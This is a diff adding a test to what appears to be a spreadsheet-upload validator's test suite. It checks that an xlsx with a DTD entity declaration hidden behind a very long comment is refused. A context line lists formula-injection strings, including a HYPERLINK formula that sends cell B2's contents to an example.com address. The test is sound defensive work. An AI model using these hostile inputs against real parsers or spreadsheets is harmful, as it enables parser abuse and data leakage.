@@ -139,6 +139,20 @@ def test_a_part_flagged_as_encrypted_says_the_file_is_damaged():
     assert error.status == 422 and "损坏" in error.message
 
 
+def test_a_dtd_behind_a_long_comment_is_refused_too():
+    """The parser openpyxl uses (lxml once it is installed) may expand a DTD's entities wherever it stands."""
+    source = zipfile.ZipFile(io.BytesIO(hostile_files.workbook_bytes(Workbook())))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as z:
+        for info in source.infolist():
+            body = source.read(info.filename)
+            if info.filename == "xl/styles.xml":
+                body = b"<!--" + b"x" * 200_000 + b'--><!DOCTYPE s [<!ENTITY a "aaaaaaaaaa">]>' + body.split(b"?>", 1)[-1]
+            z.writestr(info.filename, body)
+    error, _ = refused(out.getvalue())
+    assert error.status == 422 and "xl/styles.xml 含有 DTD 声明" in error.message
+
+
 def test_written_text_stays_text_even_when_it_looks_like_a_formula():
     wb = Workbook()
     risky = ["=100%", '=HYPERLINK("http://example.com/?"&B2,"点击")', "#N/A", "+1", "-1", "@SUM(A1)"]
